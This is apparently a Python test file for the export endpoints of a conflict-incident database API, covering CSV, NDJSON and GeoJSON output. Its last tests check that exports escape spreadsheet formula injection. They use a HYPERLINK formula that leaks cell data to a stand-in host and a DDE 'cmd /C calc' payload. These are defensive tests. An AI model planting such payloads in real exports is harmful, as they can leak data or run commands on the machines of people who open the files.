"""Every list exports as CSV and NDJSON (incidents as GeoJSON too), streaming every row."""

import json

import pytest

from app.core.config import Settings
from app.main import create_app
from tests.databases import committed_database
from tests.helpers import all_pages, api_client, assert_problem, read_csv

pytestmark = pytest.mark.anyio


LISTS = ["sources", "actors", "statements", "incidents", "negotiation-processes",
         "negotiation-sessions", "agreements"]  # fmt: skip


@pytest.mark.parametrize("collection", LISTS)
async def test_csv_has_one_row_per_record_ignoring_limit(client, collection):
    everything = (await client.get(f"/v1/{collection}", params={"limit": 500})).json()["data"]

    response = await client.get(f"/v1/{collection}", params={"format": "csv", "limit": 1})

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    assert [row["id"] for row in read_csv(response)] == [row["id"] for row in everything]


@pytest.mark.parametrize("collection", LISTS)
async def test_ndjson_has_one_record_per_line(client, collection):
    everything = (await client.get(f"/v1/{collection}", params={"limit": 500})).json()["data"]

    response = await client.get(f"/v1/{collection}", params={"format": "ndjson"})

    assert response.headers["content-type"] == "application/x-ndjson"
    assert [json.loads(line) for line in response.text.splitlines()] == everything


async def test_accept_text_csv_is_csv(client):
    response = await client.get("/v1/actors", headers={"accept": "text/csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"


async def test_csv_flattens_nested_values_readably_and_keeps_arabic(client):
    response = await client.get(
        "/v1/incidents", params={"format": "csv", "sub_type": "double_tap_strike"}
    )
    (row,) = read_csv(response)
    assert row["place.name"] == "Wadi Barada"
    assert row["killed.best"] == "1"
    assert "Ahmad Alaya (victim, confirmed)" in row["actors"]
    actors = read_csv(await client.get("/v1/actors", params={"format": "csv", "q": "Hezbollah"}))
    assert "حزب الله (native_script, ar)" in actors[0]["aliases"]


async def test_csv_follows_fields_and_filters(client):
    response = await client.get(
        "/v1/incidents", params={"format": "csv", "fields": "id,place", "actor": "Hezbollah"}
    )
    rows = read_csv(response)
    assert len(rows) == 1
    assert list(rows[0]) == ["id", "place.name", "place.governorate", "place.district",
                             "place.subdistrict", "place.latitude", "place.longitude",
                             "place.precision"]  # fmt: skip


async def test_geojson_is_a_feature_collection_of_points(client):
    response = await client.get("/v1/incidents", params={"format": "geojson"})
    collection = response.json()
    assert response.headers["content-type"] == "application/geo+json"
    assert collection["type"] == "FeatureCollection"
    assert len(collection["features"]) == 5
    strike = next(
        f for f in collection["features"] if f["properties"]["sub_type"] == "double_tap_strike"
    )
    assert strike["geometry"] == {"type": "Point", "coordinates": [36.2, 33.62]}
    unlocated = [f for f in collection["features"] if f["properties"]["latitude"] is None]
    assert len(unlocated) == 3
    assert all(f["geometry"] is None for f in unlocated)
    located = [f["geometry"]["coordinates"] for f in collection["features"] if f["geometry"]]
    xs, ys = [x for x, _ in located], [y for _, y in located]
    assert collection["bbox"] == [min(xs), min(ys), max(xs), max(ys)]


async def test_geojson_properties_are_scalars_a_map_style_can_read(client):
    response = await client.get(
        "/v1/incidents", params={"format": "geojson", "sub_type": "double_tap_strike"}
    )
    (strike,) = response.json()["features"]
    properties = strike["properties"]

    assert strike["id"] == properties["id"]
    assert {name: properties[name] for name in (
        "type", "start_date", "killed_best", "place_name", "governorate", "place_precision",
    )} == {
        "type": "airstrike", "start_date": "2017-01-22", "killed_best": 1,
        "place_name": "Wadi Barada", "governorate": "Rif Dimashq", "place_precision": "region",
    }  # fmt: skip
    assert properties["actors"] == "Syrian government forces; Ahmad Alaya; White Helmets"
    assert (properties["tags"], properties["translations"]) == (None, None)
    assert not any(isinstance(value, dict | list) for value in properties.values())


async def test_geojson_gives_the_fields_asked_for_as_the_record_holds_them(client):
    params = {"format": "geojson", "sub_type": "double_tap_strike", "fields": "id,place,killed"}
    (strike,) = (await client.get("/v1/incidents", params=params)).json()["features"]
    assert list(strike["properties"]) == ["id", "place", "killed"]
    assert strike["properties"]["killed"] == {"low": 1, "best": 1, "high": 1}


async def test_geojson_only_for_incidents(client):
    assert_problem(await client.get("/v1/actors", params={"format": "geojson"}), 422, "format")


async def test_unknown_format_is_422(client):
    assert_problem(await client.get("/v1/incidents", params={"format": "xlsx"}), 422, "format")


async def test_exports_stream_more_rows_than_a_page(client):
    for number in range(520):
        await client.post("/v1/sources", json={"title": f"Wire {number}", "kind": "news_article"})
    response = await client.get("/v1/sources", params={"format": "ndjson"})
    assert len(response.text.splitlines()) == 521


async def test_the_export_follows_search_order(client):
    api = await all_pages(client, "/v1/incidents", q="wadi barada")
    export = await client.get("/v1/incidents", params={"format": "ndjson", "q": "wadi barada"})
    assert [json.loads(line) for line in export.text.splitlines()] == api


@pytest.mark.parametrize(("fmt", "mentions"), [("ndjson", 1), ("csv", 1), ("geojson", 2)])
async def test_exports_stream_after_the_request_has_committed(fmt, mentions):
    """Served by a real engine, not a test's connection: the rows are read as the response
    is sent, after the session's commit has given its connection back."""
    with committed_database("desk") as committed:
        app = create_app(Settings(), database=committed.database)
        async with api_client(app, committed.tokens["desk"]) as desk:
            created = await desk.post(
                "/v1/incidents", json={"type": "shelling", "start_date": "2017-01-24"}
            )
            response = await desk.get("/v1/incidents", params={"format": fmt})
    assert response.status_code == 200
    assert response.text.count(created.json()["id"]) == mentions  # a feature names it twice


LEAK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'


async def formula_incident(client) -> dict:
    """An incident whose text, place and actor begin like spreadsheet formulas."""
    actor = await client.post("/v1/actors", json={"name": "@SUM(1+1)", "kind": "armed_group"})
    assert actor.status_code == 201, actor.text
    body = {
        "type": "shelling",
        "start_date": "2017-02-01",
        "description": LEAK,
        "place": {"name": "+cmd|' /C calc'!A0", "governorate": "-2+3",
                  "latitude": 35.5, "longitude": -0.25},
        "killed": {"low": 1, "best": 2, "high": 3},
        "actors": [{"actor_id": actor.json()["id"], "role": "perpetrator"}],
        "tags": ["@mention"],
    }  # fmt: skip
    created = await client.post("/v1/incidents", json=body)
    assert created.status_code == 201, created.text
    return created.json()


@pytest.mark.parametrize("search", [{}, {"q": "HYPERLINK"}])
async def test_csv_cells_never_begin_a_formula(client, search):
    await formula_incident(client)
    params = {"format": "csv", "place": "cmd", **search}
    (row,) = read_csv(await client.get("/v1/incidents", params=params))

    assert row["description"] == "'" + LEAK
    assert row["place.name"] == "'+cmd|' /C calc'!A0"
    assert row["place.governorate"] == "'-2+3"
    assert row["actors"] == "'@SUM(1+1) (perpetrator, alleged)"
    assert row["tags"] == "'@mention"
    assert (row["place.longitude"], row["killed.best"]) == ("-0.25", "2")


async def test_actor_and_stats_csv_cells_never_begin_a_formula(client):
    await formula_incident(client)
    actors = read_csv(await client.get("/v1/actors", params={"format": "csv", "q": "SUM"}))
    stats = await client.get(
        "/v1/stats/incidents", params={"format": "csv", "group_by": "governorate"}
    )

    assert [actor["name"] for actor in actors] == ["'@SUM(1+1)"]
    groups = {row["governorate"]: row["count"] for row in read_csv(stats)}
    assert groups["'-2+3"] == "1"
